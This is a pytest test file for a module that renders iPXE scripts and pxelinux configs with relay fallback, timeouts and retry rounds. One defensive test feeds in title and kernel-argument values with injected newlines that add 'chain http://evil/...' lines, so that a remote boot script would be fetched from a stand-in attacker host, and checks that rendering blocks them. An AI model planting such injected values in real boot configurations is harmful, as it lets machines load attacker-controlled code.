"""slim.core.control.bootscript: rendering iPXE scripts and pxelinux configs from a Menu."""

from __future__ import annotations

import hashlib
from dataclasses import replace

import pytest

from slim.core.control.bootscript import (
    MAX_FALLBACK_RELAYS,
    MAX_FETCH_ROUNDS,
    Menu,
    MenuEntry,
    render_ipxe,
    render_pxelinux,
)

RELAYS = ("http://r1:8080/", "http://r2:8080/", "https://r3/slim/", "http://r4/")


def digest(data: str) -> str:
    return "sha256:" + hashlib.sha256(data.encode()).hexdigest()


def hexof(d: str) -> str:
    return d.removeprefix("sha256:")


BASE = MenuEntry("base", "base - Base system", digest("k-base"), digest("i-base"), "slim.env=base quiet")
JDK = MenuEntry("jdk14", "jdk14", digest("k-jdk"), digest("i-jdk"), "slim.env=jdk14 console=ttyS0")


def make_menu(timeout: float = 5.0, relays: tuple[str, ...] = RELAYS) -> Menu:
    return Menu(
        node="n1",
        mac="52:54:00:00:00:01",
        default="base",
        timeout=timeout,
        entries=(BASE, JDK),
        relay_urls=relays,
        unbuilt=("old-env",),
    )


def lines_of(script: str) -> list[str]:
    return script.splitlines()


def section(script: str, label: str) -> list[str]:
    """The lines of an iPXE label's block, up to the next blank line."""
    lines = lines_of(script)
    start = lines.index(f":{label}") + 1
    end = lines.index("", start) if "" in lines[start:] else len(lines)
    return lines[start:end]


def command(block: list[str], word: str) -> str:
    (line,) = [x for x in block if x.split(" ", 1)[0] == word]
    return line


# -- iPXE ----------------------------------------------------------------------------


def test_ipxe_menu() -> None:
    script = render_ipxe(make_menu(timeout=5.0))
    lines = lines_of(script)
    assert lines[0] == "#!ipxe"
    assert script.endswith("\n")
    assert sum(1 for x in lines if x.split(" ", 1)[0] == "menu") == 1
    items = [x for x in lines if x.startswith("item ") and not x.startswith("item --gap")]
    assert items == [
        "item ee-base base - Base system",
        "item ee-jdk14 jdk14",
        "item --key l local Boot from local disk (key L)",
    ]
    choose = command(lines, "choose")
    assert choose.startswith("choose --default ee-base --timeout 5000 ")
    assert "goto ${target}" in lines
    for label in ("ee-base", "ee-jdk14", "local", "failed"):
        assert lines.count(f":{label}") == 1


@pytest.mark.parametrize(("timeout", "ms"), [(2.5, 2500), (0.001, 1), (3600, 3600000)])
def test_ipxe_timeout_in_milliseconds(timeout: float, ms: int) -> None:
    choose = command(lines_of(render_ipxe(make_menu(timeout=timeout))), "choose")
    assert f" --timeout {ms} " in choose


@pytest.mark.parametrize("timeout", [0, 0.0, 0.0004])
def test_ipxe_without_menu_boots_default(timeout: float) -> None:
    lines = lines_of(render_ipxe(make_menu(timeout=timeout)))
    assert not [x for x in lines if x.split(" ", 1)[0] in ("menu", "item", "choose")]
    assert "goto ee-base" in lines
    # the default's goto comes before any label
    assert lines.index("goto ee-base") < lines.index(":ee-base")


def test_ipxe_kernel_and_initrd_fall_back_over_three_relays() -> None:
    script = render_ipxe(make_menu())
    for entry in (BASE, JDK):
        block = section(script, f"ee-{entry.environment}")
        assert command(block, "set") == f"set slim-args initrd=initrd {entry.kernel_args}"
        kernel = command(block, "kernel").split(" || ")
        assert kernel[-1] == f"goto ee-{entry.environment}-wait"
        assert kernel[:-1] == [
            f"kernel {relay}objects/sha256/{hexof(entry.kernel_digest)} ${{slim-args}}"
            for relay in RELAYS[:MAX_FALLBACK_RELAYS]
        ]
        assert block.index(command(block, "set")) < block.index(command(block, "kernel"))
        initrd = command(block, "initrd").split(" || ")
        assert initrd == [
            f"initrd --name initrd {relay}objects/sha256/{hexof(entry.initrd_digest)}"
            for relay in RELAYS[:MAX_FALLBACK_RELAYS]
        ] + [f"goto ee-{entry.environment}-wait"]
        assert block.index(command(block, "kernel")) < block.index(command(block, "initrd"))
        assert block.index(command(block, "initrd")) < block.index("boot || goto failed")
    assert RELAYS[3] not in script


def test_ipxe_single_relay() -> None:
    block = section(render_ipxe(make_menu(relays=("http://only/",))), "ee-jdk14")
    assert command(block, "kernel") == (
        f"kernel http://only/objects/sha256/{hexof(JDK.kernel_digest)} ${{slim-args}} || goto ee-jdk14-wait"
    )
    assert command(block, "initrd") == (
        f"initrd --name initrd http://only/objects/sha256/{hexof(JDK.initrd_digest)} || goto ee-jdk14-wait"
    )


def test_ipxe_waits_and_goes_round_the_relays_again_a_bounded_number_of_times() -> None:
    """Every relay down or busy (503): wait (the core jitters how long) and fetch again,
    at most MAX_FETCH_ROUNDS rounds, then the failed path (which asks for a new script)."""
    script = render_ipxe(replace(make_menu(), retry_wait=7))
    lines = lines_of(script)
    assert lines.index("set slim-round 0") < lines.index(":ee-base")
    block = section(script, "ee-base")
    fetch, wait = block.index(":ee-base-fetch"), block.index(":ee-base-wait")
    assert fetch < block.index(command(block, "kernel")) < wait
    assert block[wait:] == [
        ":ee-base-wait",
        "inc slim-round",
        f"iseq ${{slim-round}} {MAX_FETCH_ROUNDS} && goto failed ||",
        "echo SLIM: no relay could send the kernel and initrd; round ${slim-round}, again in 7 seconds",
        "sleep 7",
        "goto ee-base-fetch",
    ]
    assert command(section(script, "failed"), "sleep") == "sleep 14"


def test_boot_id_names_the_boot_in_kernel_and_initrd_urls() -> None:
    menu = replace(make_menu(relays=("http://only/",)), boot_id="0123456789abcdef")
    block = section(render_ipxe(menu), "ee-base")
    assert (
        f"/objects/sha256/{hexof(BASE.kernel_digest)}?boot=0123456789abcdef&stage=kernel ${{slim-args}}"
        in command(block, "kernel")
    )
    assert f"/objects/sha256/{hexof(BASE.initrd_digest)}?boot=0123456789abcdef&stage=initrd " in command(
        block, "initrd"
    )
    pxe = render_pxelinux(menu)
    assert (
        f"  KERNEL http://only/objects/sha256/{hexof(BASE.kernel_digest)}?boot=0123456789abcdef&stage=kernel"
        in pxe
    )


def test_ipxe_unbuilt_environments_are_only_comments() -> None:
    lines = lines_of(render_ipxe(make_menu()))
    mentions = [x for x in lines if "old-env" in x]
    assert mentions
    assert all(x.startswith("#") for x in mentions)


def test_ipxe_failed_chains_back_to_first_relay() -> None:
    block = section(render_ipxe(make_menu()), "failed")
    assert command(block, "chain") == "chain --autofree http://r1:8080/boot/${mac}.ipxe || goto failed"


def test_ipxe_local_boot() -> None:
    block = section(render_ipxe(make_menu()), "local")
    assert command(block, "sanboot").startswith("sanboot ")


def test_multiline_text_cannot_add_script_lines() -> None:
    evil = replace(
        BASE,
        title="base\nchain http://evil/x.ipxe",
        kernel_args="quiet\r\nchain http://evil/y.ipxe",
    )
    menu = replace(make_menu(), entries=(evil,))
    for script in (render_ipxe(menu), render_pxelinux(menu)):
        assert not [x for x in lines_of(script) if x.startswith("chain http://evil")]
        assert "\r" not in script


# -- pxelinux ------------------------------------------------------------------------


def test_pxelinux_config() -> None:
    lines = lines_of(render_pxelinux(make_menu(timeout=5.0)))
    assert "DEFAULT ee-base" in lines
    assert "PROMPT 1" in lines
    assert "TIMEOUT 50" in lines
    labels = [x for x in lines if x.startswith("LABEL ")]
    assert labels == ["LABEL ee-base", "LABEL ee-jdk14", "LABEL local"]
    for entry in (BASE, JDK):
        start = lines.index(f"LABEL ee-{entry.environment}")
        block = [x.strip() for x in lines[start + 1 : lines.index("", start)]]
        assert f"KERNEL {RELAYS[0]}objects/sha256/{hexof(entry.kernel_digest)}" in block
        assert f"INITRD {RELAYS[0]}objects/sha256/{hexof(entry.initrd_digest)}" in block
        assert f"APPEND {entry.kernel_args}" in block
    assert "  LOCALBOOT 0" in lines
    for append in (x for x in lines if x.strip().startswith("APPEND")):
        assert "initrd=" not in append
    mentions = [x for x in lines if "old-env" in x]
    assert mentions
    assert all(x.startswith("#") for x in mentions)


@pytest.mark.parametrize(
    ("timeout", "prompt", "tenths"), [(0, 0, 0), (2.5, 1, 25), (0.04, 0, 0), (60, 1, 600)]
)
def test_pxelinux_timeout_in_tenths(timeout: float, prompt: int, tenths: int) -> None:
    lines = lines_of(render_pxelinux(make_menu(timeout=timeout)))
    assert f"PROMPT {prompt}" in lines
    assert f"TIMEOUT {tenths}" in lines
